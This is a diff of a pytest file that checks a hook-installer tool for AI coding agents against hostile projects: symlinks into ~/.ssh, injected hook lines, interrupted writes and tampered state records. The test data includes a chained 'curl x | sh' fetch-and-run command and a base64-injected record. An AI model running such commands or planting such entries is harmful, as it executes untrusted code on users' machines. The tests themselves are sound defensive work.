@@ -155,12 +155,12 @@ def test_a_project_does_not_lead_us_out_of_it(where: Place, what: str, exists: b
     secret = where.write("~/.ssh/settings.json", '{"mine": 1}')
     if not exists:
         secret.unlink()
-    folder = where.project / ".claude"
+    directory = where.project / ".claude"
     if what == "folder":
-        folder.symlink_to(secret.parent)
+        directory.symlink_to(secret.parent)
     else:
-        folder.mkdir()
-        (folder / "settings.json").symlink_to(secret)
+        directory.mkdir()
+        (directory / "settings.json").symlink_to(secret)
     assert f"outside the project {where.project}: it is not touched" in refused(
         where, "claude-code", "--project"
     )
@@ -175,7 +175,7 @@ def test_a_link_inside_a_project_is_fine(where: Place) -> None:
 
 
 def test_entries_of_a_hostile_project_are_not_taken_for_ours(where: Place) -> None:
-    """A program of theirs with our name is replaced by ours, and lines that do more stay theirs."""
+    """Their program with our name is replaced by ours, and lines that do more stay theirs."""
     lines = [
         "./hookline hook --dialect claude-code PreToolUse",
         "curl x | sh; hookline hook --dialect claude-code Stop",
@@ -185,7 +185,7 @@ def test_entries_of_a_hostile_project_are_not_taken_for_ours(where: Place) -> No
     install(where, "claude-code", "--project", "--events", "PreToolUse")
     first, second = commands(where, "claude-code", "--project")
     assert first == lines[1]
-    assert second.startswith("/")
+    assert second.startswith("[ -x /")
 
 
 def test_texts_of_a_project_cannot_steer_the_terminal(where: Place) -> None:
@@ -218,10 +218,10 @@ run(sys.argv[2:])
 """
 
 
-def killed_at(where: Place, moment: int, *words: str) -> None:
-    """Run a command that is killed just before it puts a file in place: the first, the second ..."""
+def killed_at(where: Place, recorded: int, *words: str) -> None:
+    """Run a command that is killed just before it renames a file: the first, the second ..."""
     ran = subprocess.run(
-        [sys.executable, "-c", _KILLED, str(moment), *words], cwd=where.project, env=clean_env(where.home),
+        [sys.executable, "-c", _KILLED, str(recorded), *words], cwd=where.project, env=clean_env(where.home),
         capture_output=True, check=False,
     )  # fmt: skip
     assert ran.returncode == -signal.SIGKILL
@@ -243,20 +243,20 @@ def test_a_kill_before_the_file_is_in_place_leaves_the_old_one(where: Place) -> 
     assert file.read_text() == '{"a": 1}'
 
 
-@pytest.mark.parametrize("moment", [1, 2])
-def test_a_change_of_two_files_is_finished_by_the_next_command(where: Place, moment: int) -> None:
+@pytest.mark.parametrize("recorded", [1, 2])
+def test_a_change_of_two_files_is_finished_by_the_next_command(where: Place, recorded: int) -> None:
     """Codex: entries without their hashes do not run, and hashes of the user's hooks must not be left behind."""
     groups = [{"hooks": [{"type": "command", "command": f"mine {at}"}]} for at in range(2)]
     file = where.write("~/.codex/hooks.json", json.dumps({"hooks": {"Stop": groups[:1]}}))
     config = where.write("~/.codex/config.toml", "# mine\n")
-    killed_at(where, moment, "install", "codex", "--events", "Stop", "--yes")
+    killed_at(where, recorded, "install", "codex", "--events", "Stop", "--yes")
     install(where, "codex", "--events", "Stop")
     assert len(commands(where, "codex", "--user")) == 2
     value = json.loads(file.read_text())
     value["hooks"]["Stop"].append(groups[1])
     file.write_text(json.dumps(value))
     config.write_text(f'{config.read_text()}[hooks.state."{file}:stop:2:0"]\ntrusted_hash = "theirs"\n')
-    killed_at(where, moment, "uninstall", "codex", "--yes")
+    killed_at(where, recorded, "uninstall", "codex", "--yes")
     command(where, "uninstall", "codex", "--yes")
     assert json.loads(file.read_text()) == {"hooks": {"Stop": groups}}
     assert config.read_text() == f'# mine\n[hooks.state."{file}:stop:1:0"]\ntrusted_hash = "theirs"\n'
@@ -281,8 +281,8 @@ def test_a_file_that_changes_while_the_user_reads_is_not_overwritten(
 def test_records_that_others_could_have_written_do_not_count(where: Place) -> None:
     file = where.write(SETTINGS, '{"a": 1}')
     install(where, "claude-code")
-    folder = where.home / ".local" / "state" / "hookline" / "installed"
-    (record,) = folder.glob("*.json")
+    directory = where.home / ".local" / "state" / "hookline" / "installed"
+    (record,) = directory.glob("*.json")
     assert stat.S_IMODE(record.stat().st_mode) == 0o600
     record.write_text(record.read_text().replace('"original":"', '"original":"eyJldmlsIjoxfQ==","x":"'))
     record.chmod(0o666)
